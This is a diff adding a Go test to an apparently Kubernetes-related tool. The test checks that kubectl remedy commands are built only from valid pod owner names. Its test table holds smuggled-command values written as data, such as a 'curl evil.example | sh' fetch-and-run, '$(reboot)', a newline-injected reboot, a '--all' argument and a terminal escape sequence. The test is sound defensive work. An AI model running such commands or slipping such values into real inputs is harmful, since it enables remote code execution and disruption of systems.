@@ -76,6 +76,46 @@ func TestPods(t *testing.T) {
 	}
 }
 
+// Whoever makes a pod writes its owner as they like: what they write is no command for others.
+func TestCommandsAreOfNamesThatObjectsCanHave(t *testing.T) {
+	for owner, want := range map[string]string{
+		"Job/train":                       `kubectl -n team patch job train --type=merge -p '{"spec":{"suspend":true}}'`,
+		"Deployment/serve":                "kubectl -n team scale deployment serve --replicas=0",
+		"StatefulSet/serve.v1":            "kubectl -n team scale statefulset serve.v1 --replicas=0",
+		"Job/x; curl evil.example | sh #": "",
+		"Job/$(reboot)":                   "",
+		"StatefulSet/--all":               "",
+		"Pod/x\nreboot":                   "",
+		"ReplicaSet; reboot #/x":          "",
+		"RayCluster/ray":                  "",
+		"Job/x/y":                         "",
+		"Job/\x1b]0;title\x07":            "",
+	} {
+		t.Run(owner, func(t *testing.T) {
+			w := newWorld(t, 1)
+			w.pod("holds", "n0", 8, func(p *corev1.Pod) {
+				kind, name, _ := strings.Cut(owner, "/")
+				p.OwnerReferences = []metav1.OwnerReference{{Kind: kind, Name: name, UID: "u", Controller: ptr.To(true)}}
+			})
+			w.pod("mine", "", 8)
+			e, err := w.explainer(t).Pod(t.Context(), Ask{Name: types.NamespacedName{Namespace: "team", Name: "mine"}})
+			if err != nil {
+				t.Fatal(err)
+			}
+			r := remedy(e, explain.Evict)
+			if len(r.Subjects) != 1 || strings.Join(r.Commands, "\n") != want {
+				t.Errorf("%q of %q, want %q", r.Commands, r.Subjects, want)
+			}
+			if text := fmt.Sprint(*e); strings.ContainsAny(text, "\x1b\x07\n") {
+				t.Errorf("it moves the terminal: %q", text)
+			}
+		})
+	}
+	if got, want := quoted("it's"), `'it'\''s'`; got != want {
+		t.Errorf("quoted as %s, want %s", got, want)
+	}
+}
+
 func TestGangsOfPods(t *testing.T) {
 	w := newWorld(t, 3)
 	w.pod("other", "n2", 8)
